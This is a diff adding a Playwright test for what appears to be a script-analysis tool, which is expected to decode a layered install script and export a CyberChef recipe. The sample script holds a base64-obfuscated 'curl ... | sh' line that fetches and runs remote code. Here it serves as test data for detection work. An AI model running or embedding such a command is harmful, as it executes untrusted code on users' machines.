@@ -46,3 +46,23 @@ test('a file that is removed is gone from the list, and is brought back', async 
   await expect(page.getByRole('row').filter({ hasText: 'setup.exe' })).toBeVisible()
   await passesInBothThemes(page, 'the list of files')
 })
+
+const hidden = 'curl -s http://files.kestrel-sample.com/run | sh'
+const script = `echo ${Buffer.from(hidden).toString('base64')} | base64 -d | bash\n`
+
+test('a script says in prose what it does, and its layer is handed to CyberChef', async ({ page }) => {
+  await page.keyboard.press('g')
+  await page.keyboard.press('f')
+  await dropOnView(page, [{ name: 'install.sh', bytes: [...Buffer.from(script)] }])
+  await expect(page.getByText('analysed', { exact: true })).toBeVisible()
+  await page.getByRole('button', { name: 'Script', exact: true }).click()
+  const prose = page.getByRole('region', { name: 'Explanation' })
+  await expect(prose).toContainText('made by rules, not by AI')
+  await expect(prose).toContainText('Layer 1 is a shell text')
+  await expect(page.getByRole('region', { name: 'Layer 1' })).toContainText(hidden)
+  const saved = page.waitForEvent('download')
+  await page.getByRole('button', { name: 'Save recipe of Layer 1' }).click()
+  const recipe = readFileSync(await (await saved).path(), 'utf8')
+  expect(JSON.parse(recipe)).toEqual([{ op: 'From Base64', args: ['A-Za-z0-9+/=', true, false] }])
+  await passesInBothThemes(page, 'the script tab')
+})
